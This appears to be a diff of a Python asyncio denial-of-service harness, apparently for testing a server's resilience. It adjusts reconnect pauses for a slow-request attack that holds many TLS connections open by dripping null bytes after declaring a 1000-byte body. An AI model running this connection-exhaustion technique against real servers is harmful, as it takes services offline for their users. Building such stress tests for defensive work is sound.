@@ -55,7 +55,7 @@ class Attack:
         return await asyncio.wait_for(asyncio.open_connection(self.host, self.port, ssl=context,
                                                               local_addr=(source, 0), limit=2**20), wait)
 
-    async def on_many(self, visit, count, sources):
+    async def on_many(self, visit, count, sources, pause=(0.2, 1.0)):
         """`count` visitors, each of which comes again when it is sent away, until the time is up."""
         async def come_again(number):
             while self.goes_on:
@@ -68,7 +68,7 @@ class Attack:
                 finally:
                     if writer:
                         writer.transport.abort()
-                await asyncio.sleep(random.uniform(0.2, 1.0))
+                await asyncio.sleep(random.uniform(*pause))
         await asyncio.gather(*(come_again(number) for number in range(count)))
 
     async def until_closed(self, reader, most=1e9):
@@ -169,7 +169,8 @@ async def slow_requests(attack):
             writer.write(head + b"Content-Length: 1000\r\n\r\n")
             await attack.drip(reader, writer, b"\x00" * 1000)
         return writer
-    await attack.on_many(visit, CONNECTIONS, [THIEF])
+    # Not sooner again: who attacks would have no time left to drip.
+    await attack.on_many(visit, CONNECTIONS, [THIEF], pause=(4, 8))
 
 
 async def oversized(attack):
